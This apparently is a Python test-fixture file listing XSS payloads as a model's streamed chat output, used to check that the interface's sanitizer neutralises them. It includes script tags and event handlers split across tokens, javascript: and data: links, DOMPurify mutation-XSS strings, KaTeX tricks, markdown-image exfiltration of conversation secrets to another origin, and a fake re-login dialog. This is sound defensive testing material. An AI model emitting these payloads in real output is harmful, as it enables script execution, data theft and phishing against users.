"""Model output that tries to run script or reach another origin, as data: one named payload per
attack, streamed in the given pieces (a piece is one chunk of the model's answer, so an attack
can be split across tokens). `{js}` stands for script that would leave a trace if it ran
(`top.__xss` counted up), `{out}` for a URL of another origin that records every hit.
`visible`: text the answer must still show, as text, once sanitized.
"""

from __future__ import annotations

from dataclasses import dataclass

JS = "top.__xss=(top.__xss||0)+1"


@dataclass(frozen=True)
class Payload:
    name: str
    pieces: tuple[str | tuple[str, str], ...]  # ("thinking", text) for a piece of thinking
    visible: str | None = None

    def script(self, outside: str) -> list[str | tuple[str, str]]:
        """The pieces with their placeholders filled; `outside` is the other origin's base URL."""
        out = f"{outside}/{self.name}"

        def fill(text: str) -> str:
            return text.replace("{js}", JS).replace("{out}", out)

        return [(p[0], fill(p[1])) if isinstance(p, tuple) else fill(p) for p in self.pieces]


def _(name: str, *pieces: str | tuple[str, str], visible: str | None = None) -> Payload:
    return Payload(name, pieces, visible)


CORPUS: list[Payload] = [
    # <script>, whole and in pieces
    _("script-tag", "Avant <script>{js}</script> après", visible="Avant après"),
    _("script-mixed-case", "<ScRiPt>{js}</sCrIpT>"),
    _("script-src-outside", '<script src="{out}/x.js"></script>'),
    _("script-split-across-tokens", "<scr", "ipt>{js}</scr", "ipt>"),
    _("script-alert-split-across-tokens", "<scr", "ipt>alert(1)</scr", "ipt>Fin", visible="Fin"),
    _("script-never-closed", "Texte\n\n<script>{js}", visible="Texte"),
    _("script-in-svg", "<svg><script>{js}</script></svg>"),
    # event handlers
    _("img-onerror", "<img src=x onerror={js}>"),
    _("img-onerror-split-across-tokens", "<img src=x on", "error={js}", ">"),
    _("svg-onload", "<svg onload={js}>"),
    _("body-onload", "<body onload={js}>"),
    _(
        "details-ontoggle",
        "<details open ontoggle={js}><summary>Résumé</summary>Détail</details>",
        visible="Résumé",
    ),
    _("input-autofocus-onfocus", "<input autofocus onfocus={js}>"),
    _("audio-onerror", "<audio src=x onerror={js}></audio>"),
    _("video-poster-and-source", '<video poster="{out}/poster"><source src=x onerror={js}></video>'),
    _("style-onload", "<style onload={js}></style>"),
    _("marquee-onstart", "<marquee onstart={js}>défile</marquee>", visible="défile"),
    _("paragraph-onmouseover", "<p onmouseover={js} onclick={js}>Survol</p>", visible="Survol"),
    # javascript: and data: links
    _("markdown-link-javascript", "[cliquez ici](javascript:{js})", visible="cliquez ici"),
    _("markdown-autolink-javascript", "<javascript:{js}>"),
    _("html-link-javascript-mixed-case", '<a href="jAvAsCrIpT:{js}">lien</a>', visible="lien"),
    _(
        "html-link-javascript-entities",
        '<a href="&#106;avascript:{js}">lien encodé</a>',
        visible="lien encodé",
    ),
    _("html-link-javascript-tab", '<a href="java&#x09;script:{js}">tab</a>'),
    _("markdown-link-data-html", "[données](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    _("button-formaction", '<button formaction="javascript:{js}">Envoyer</button>'),
    _("svg-xlink-href", '<svg><a xlink:href="javascript:{js}"><text x="20" y="20">SVG</text></a></svg>'),
    _("math-href", '<math href="javascript:{js}">clic</math>'),
    # frames, plug-ins, forms, navigation, <base>
    _("iframe-outside", '<iframe src="{out}/frame"></iframe>'),
    _("iframe-javascript", '<iframe src="javascript:{js}"></iframe>'),
    _("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>'),
    _("object-data", '<object data="{out}/object"></object>'),
    _("embed-src", '<embed src="{out}/embed">'),
    _("form-action", '<form action="{out}/form" method="post"><input name="q" value="secret"></form>'),
    _("meta-refresh", '<meta http-equiv="refresh" content="0;url={out}/refresh">'),
    _("base-href", '<base href="{out}/">'),
    # requests to another origin: images, styles, prefetch
    _(
        "markdown-image-exfiltration",
        "Voici: ![x]({out}/leak?data=le-secret-de-la-conversation)",
        visible="Voici:",
    ),
    _("markdown-image-reference", "![x][ref]\n\n[ref]: {out}/leak-by-reference"),
    _("html-img-outside", '<img src="{out}/img">'),
    _("picture-srcset", '<picture><source srcset="{out}/srcset"><img src="{out}/img"></picture>'),
    _("style-tag-url", "<style>body{background:url({out}/style-tag)}</style>"),
    _("style-attribute-url", '<p style="background:url({out}/style-attr)">Fond</p>', visible="Fond"),
    _("link-stylesheet", '<link rel="stylesheet" href="{out}/sheet.css">'),
    _("link-prefetch", '<link rel="prefetch" href="{out}/prefetch">'),
    _("table-background", '<table background="{out}/table"><tr><td>case</td></tr></table>', visible="case"),
    _("anchor-ping", '<a href="https://example.invalid/" ping="{out}/ping">ping</a>', visible="ping"),
    # mutation XSS known to DOMPurify, namespace confusion, inert containers
    _("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
    _(
        "math-mglyph-style-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    ),
    _(
        "form-math-namespace-confusion",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        '<path id="</style><img onerror={js} src>">',
    ),
    _("template-content", "<template><img src=x onerror={js}></template>"),
    _("xmp-img", "<xmp><img src=x onerror={js}></xmp>"),
    # entities and tags split across tokens: shown as text, never parsed as markup
    _(
        "entities-img-split-across-tokens",
        "&l",
        "t;img src=x onerror=",
        "{js}&g",
        "t;",
        visible="<img src=x onerror=",
    ),
    _(
        "entities-script-split-across-tokens",
        "&lt;scr",
        "ipt&gt;alert(1)&lt;/script&gt;",
        visible="<script>alert(1)</script>",
    ),
    # markup that acts on the page's own controls
    _(
        "label-for-the-send-button",
        '<label for="send">Cliquez pour continuer</label>',
        visible="Cliquez pour continuer",
    ),
    _("dialog-over-the-page", "<dialog open>Session expirée : reconnectez-vous</dialog>"),
    _("popover-target", '<a popovertarget="sidebar" href="#">menu</a>', visible="menu"),
    _("code-block-with-script", "```html\n<script>{js}</script>\n```", visible="<script>"),
    _("inline-code-with-img", "`<img src=x onerror={js}>`", visible="<img src=x onerror="),
    # LaTeX: KaTeX draws formulas (trust off), their MathML sanitized on its own
    _("latex-href-javascript", r"Lien $\href{javascript:{js}}{ici}$ fin", visible="fin"),
    _("latex-url-javascript", r"$\url{javascript:{js}}$"),
    _("latex-includegraphics-outside", r"$$\includegraphics{{out}/latex.png}$$"),
    _("latex-html-class-over-the-page", r"\(\htmlClass{fixed inset-0 z-50}{x}\)"),
    _("latex-html-style-url", r"\[\htmlStyle{background:url({out}/latex-style)}{y}\]"),
    _("latex-html-data-onclick", r"$\htmlData{onclick={js}}{z}$"),
    _("latex-text-with-markup", r"$\text{<img src=x onerror={js}>}$ fin", visible="fin"),
    _("latex-split-across-tokens", r"$\hr", r"ef{javas", r"cript:{js}}{x}$"),
    # the thinking, shown as text beside the answer
    _(
        "thinking-with-markup",
        ("thinking", "<img src=x onerror={js}><script>{js}</script>"),
        "Réponse.",
        visible="Réponse.",
    ),
]
